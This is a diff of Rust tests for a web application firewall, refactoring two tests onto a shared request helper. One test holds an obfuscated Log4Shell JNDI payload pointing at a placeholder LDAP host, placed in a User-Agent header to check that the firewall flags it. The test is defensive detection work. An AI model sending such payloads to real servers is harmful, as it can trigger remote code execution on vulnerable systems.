@@ -280,17 +280,10 @@ fn waf_reads_xml_text_as_the_application_does() {
 
 #[test]
 fn waf_denies_log4shell_in_header() {
-    let p = balanced();
-    let h = headers(&[("user-agent", "${${lower:j}ndi:ldap://x.example/a}")]);
-    let v = inspect_head(
-        &p,
-        &RequestHead {
-            method: &Method::GET,
-            path: "/",
-            query: None,
-            headers: &h,
-            route: "r",
-        },
+    let v = get_with(
+        &balanced(),
+        "/",
+        &[("user-agent", "${${lower:j}ndi:ldap://x.example/a}")],
     );
     assert_eq!(class_of(&v), Some(Class::Java));
 }
@@ -747,16 +740,10 @@ fn header_and_cookie_memo_never_hides_an_attack() {
     let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
     let sid = "sid=6f1c2a9e0b7d4c3a8e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c; theme=dark";
     let head = |ua: &str, cookie: &str, referer: &str| {
-        let h = headers(&[("user-agent", ua), ("cookie", cookie), ("referer", referer)]);
-        inspect_head(
+        get_with(
             &p,
-            &RequestHead {
-                method: &Method::GET,
-                path: "/",
-                query: None,
-                headers: &h,
-                route: "r",
-            },
+            "/",
+            &[("user-agent", ua), ("cookie", cookie), ("referer", referer)],
         )
     };
     let site = "https://shop.example.org/basket";
